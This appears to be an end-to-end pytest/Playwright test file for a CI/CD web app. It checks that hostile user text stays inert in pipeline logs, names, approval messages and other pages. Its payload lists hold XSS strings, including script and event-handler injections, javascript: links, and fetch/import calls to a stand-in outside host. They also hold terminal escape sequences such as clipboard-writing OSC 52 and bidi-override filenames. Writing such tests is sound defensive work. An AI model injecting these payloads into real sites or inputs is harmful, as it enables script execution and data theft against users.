"""More than two hundred texts that want to be scripts, markup, links or terminals, wherever a text is shown."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from itertools import islice, product
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Dialog, expect

from tests.e2e.web import watched
from tests.e2e.web.browser import Visit, visit
from tests.server_process import ServerProcess

AWAY = "http://203.0.113.9"
SCRIPTS = (
    "alert(1)",
    "window.owned=1",
    f"fetch('{AWAY}/x')",
    f"import('{AWAY}/m.js')",
    f"location='{AWAY}'",
    "document.body.remove()",
    "open('')",
)
MARKUP = (
    "<script>{0}</script>",
    "<img src=x onerror={0}>",
    "<img src={1}/i.png>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<iframe src='{1}'></iframe>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<a href='javascript:{0}'>x</a>",
    "<style>@import '{1}/s.css'</style>",
    "<link rel=stylesheet href={1}/s.css>",
    "<base href={1}/>",
    "<form action={1}><button>x",
    "<math><mtext></p><script>{0}</script>",
    "<details open ontoggle={0}>",
    "<video src={1}/v.mp4 autoplay>",
    "<object data={1}>",
    "<meta http-equiv=refresh content='0;url={1}'>",
    "<body onload={0}>",
    "'\"><script>{0}</script>",
    "</title><script>{0}</script>",
    "]]><script>{0}</script>",
    "--><script>{0}</script>",
    "`${{{0}}}`",
    "${{{0}}}",
    "{{{{constructor.constructor('{0}')()}}}}",
    "javascript:{0}",
    "data:text/html,<script>{0}</script>",
    "[x](javascript:{0})",
    "![x]({1}/i.png)",
    '[x]: {1} "<script>{0}</script>"',
    "&lt;script&gt;{0}&lt;/script&gt;",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "%3Cscript%3E{0}%3C/script%3E",
)
TERMINAL = (
    "\x1b]8;;javascript:alert(1)\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]8;;data:text/html,x\x07link\x1b]8;;\x07",
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[H",
    "\x1b[?1049h",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[" + "9" * 200 + "m",
    "\x1b[38;5;1m" * 500,
    "\x1b[31m<b>\x1b[0m",
    "\x1b]1337;File=:AAAA\x07",
    "\x9b2J",
    "\x1b[",
    "\x1b]",
    "\x1bP",
    "\x1b_APC",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "\ufeff",
    "a\x00b",
    "\r\r\rover\rdrawn",
    "x" * 100_000,
    "构" * 20_000,
    "\x1b[1m\x1b[7m\x1b[8mhidden",
    "Z̵͑" * 300,
)
TEXTS = [form.format(script, AWAY) for form, script in product(MARKUP, SCRIPTS)]
PARTS = ("", "?view=graph", "?view=timeline", "/steps/says", "/steps/says?find=script", "/steps/says?find=script#L40")
PARTS += tuple(f"/steps/says?tab={tab}" for tab in ("summary", "tests", "artifacts", "why"))

PROGRAM = """\
import json, os, sys
texts = json.load(open(sys.argv[1]))
for text in texts:
    sys.stdout.buffer.write(text.encode("utf-8", "surrogatepass") + b"\\n")
sys.stdout.buffer.write(b"\\xff\\xfe\\xc3(\\xe2\\x82\\n")
for number, text in enumerate(texts[::6]):
    line = text.replace("\\n", " ")
    print(f"::group::{line}\\n{line}\\n::endgroup::\\n::error file={line},title={line}::{line}\\n--- {line}")
with open(os.environ["ANSFLOW_SUMMARY"], "w") as summary:
    summary.write("\\n\\n".join(texts[::2])[:60_000])
from xml.sax.saxutils import quoteattr
clean = ["".join(c for c in text if c.isprintable())[:200] for text in texts[:60]]
quoted = [quoteattr(text) for text in clean]
case = "<testcase classname={0} name={0} file={0}><failure message={0}/></testcase>"
cases = "".join(case.format(text) for text in quoted)
open("junit.xml", "w").write(f"<testsuite tests='{len(clean)}'>{cases}</testsuite>")
os.mkdir("kept")
for number, text in enumerate(texts[:40]):
    open("kept/" + text.replace("/", "_")[:100], "w").close()
sys.exit(3)
"""


def pipeline(folder: Path, names: list[str]) -> str:
    says = {
        "type": "test",
        "executor": "host",
        "run": f"python3 {folder}/program.py {folder}/texts.json",
        "reports": {"junit": "junit.xml"},
        "artifacts": {"paths": ["kept/"], "when": "always"},
        "allow_failure": True,
    }
    named = {f"n{at}": {"name": name, "executor": "host", "run": "true"} for at, name in enumerate(names)}
    asks = {"needs": "says", "executor": "host", "run": "true", "approval": {"message": TEXTS[0] + TEXTS[8]}}
    steps = {"says": says, **named, "asks": asks}
    return json.dumps({"version": 1, "name": "hostile", "description": TEXTS[0], "steps": steps})


@contextmanager
def harmless(browser: Browser, url: str, theme: str = "light") -> Iterator[Visit]:
    """Nobody is asked but the server, nothing is said by a dialog of the browser, and nothing is wrong."""
    dialogs: list[str] = []
    with visit(browser, url, theme=theme) as seen:

        def said(dialog: Dialog) -> None:
            dialogs.append(dialog.message)
            dialog.dismiss()

        seen.page.on("dialog", said)
        seen.sign_in()
        yield seen
        assert (dialogs, seen.foreign, seen.faults) == ([], [], [])


def nothing_ran(seen: Visit) -> None:
    seen.settle()
    assert seen.page.evaluate("() => window.owned") is None
    forbidden = "#main :is(script, iframe, object, base, form[action])"
    assert seen.page.locator(forbidden).count() == 0


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_no_text_does_more_than_be_read(
    server: ServerProcess, browser: Browser, tmp_path: Path, theme: str, count: Callable[[str, int], None]
) -> None:
    for place in (tmp_path, *tmp_path.parents[:2]):
        place.chmod(0o755)
    (tmp_path / "program.py").write_text(PROGRAM)
    (tmp_path / "texts.json").write_text(json.dumps([*TEXTS, *TERMINAL]))
    names = [text[:100] for text in islice(TEXTS, 0, None, 4)]
    branch = TEXTS[0].replace(" ", "")
    source = pipeline(tmp_path, names)
    made = watched.make(server, f"hostile-{theme}", source)
    execution = watched.start(server, made, branch=branch, message=TEXTS[1])
    watched.has_come_to(server, execution, "waiting", step="asks")
    with harmless(browser, server.url, theme) as seen:
        for part in PARTS:
            seen.open(f"/executions/{execution}{part}")
            seen.page.get_by_role("heading", level=2).first.wait_for()
            nothing_ran(seen)
        seen.open(f"/executions/{execution}/steps/says#L1")
        log = seen.page.get_by_role("log")
        expect(log).to_contain_text(TEXTS[0])
        links = "() => [...document.querySelectorAll('[role=log] a')].map((link) => link.protocol)"
        for _ in range(40):
            assert set(seen.page.evaluate(links)) <= {"http:", "https:"}
            log.press("PageDown")
        seen.page.get_by_role("button", name="Wrap long lines").click()
        seen.settle()
    shown = len({*TEXTS, *TERMINAL}) + len(names)
    assert shown >= 200
    count("hostile texts shown by the execution page", shown)


PAGES = (
    *("/", "/executions?project={project}", "/projects", "/pipelines", "/approvals", "/audit", "/workers", "/people"),
    *(f"/projects/{{project}}?tab={tab}" for tab in ("pipelines", "environments", "members", "variables", "settings")),
    *(
        f"/pipelines/{{pipeline}}{tab}"
        for tab in ("", "?tab=file", "?tab=plan&event=push", "?tab=versions&from=1&to=2")
    ),
    *("/pipelines/{pipeline}?run=true", "/pipelines/{pipeline}/edit?step=asks", "/steps?tab=saved"),
)


def test_no_text_does_more_on_any_other_page(
    server: ServerProcess, browser: Browser, count: Callable[[str, int], None]
) -> None:
    """As names, descriptions, branches, questions and whatever else pages and lists show of what people write."""
    texts = iter(TEXTS[5 * at % len(TEXTS)][:90] for at in range(len(TEXTS)))  # of every form some
    project = server.api("POST", "projects/", {"name": next(texts), "description": next(texts)})["id"]
    for part, body in {
        "variables": {"name": "X", "value": next(texts)},
        "environments": {"name": "e", "description": next(texts)},
        "members": {"user": person(server, next(texts)), "role": "developer"},
    }.items():
        server.api("POST", f"projects/{project}/{part}/", body)
    step = {"name": next(texts), "description": next(texts), "definition": "type: test\nrun: make\n"}
    server.api("POST", "cicd/atomic-steps/", step)
    asks = {"name": next(texts), "run": "true", "executor": "host", "approval": {"message": next(texts)}}
    source = {"version": 1, "description": next(texts), "inputs": {"i": {"description": next(texts)}}}
    for _ in range(4):
        text = json.dumps({**source, "name": next(texts), "steps": {"asks": {**asks, "name": next(texts)}}})
        pipeline = server.api("POST", "pipelines/", {"project": project, "source": text})["id"]
    server.api("PATCH", f"pipelines/{pipeline}/", {"source": text + "\n", "base_version": 1, "message": next(texts)})
    rest = list(texts)
    for said in rest[:20]:
        execution = watched.start(server, pipeline, message=said, branch=re.sub(r"[^\w<>'\"=()]", "", said) or "b")
        watched.has_come_to(server, execution, "waiting", step="asks")
    with harmless(browser, server.url) as seen:
        shown = ""
        for path in PAGES:
            seen.open(path.format(project=project, pipeline=pipeline))
            seen.page.get_by_role("heading", level=1).first.wait_for()
            nothing_ran(seen)
            shown += seen.page.locator("#main").inner_text()
        seen.page.keyboard.press("Control+k")
        seen.page.get_by_role("dialog").get_by_role("combobox").fill("script")
        seen.page.get_by_role("option").filter(has_text="<script>").first.wait_for()
        nothing_ran(seen)
    read = sum(text[:40] in shown for text in TEXTS)
    assert read >= 30
    count("hostile texts shown by other pages", read)


def person(server: ServerProcess, name: str) -> str:
    server.api("POST", "auth/users/", {"username": "mallory", "email": "mallory@example.com", "name": name})
    return "mallory"
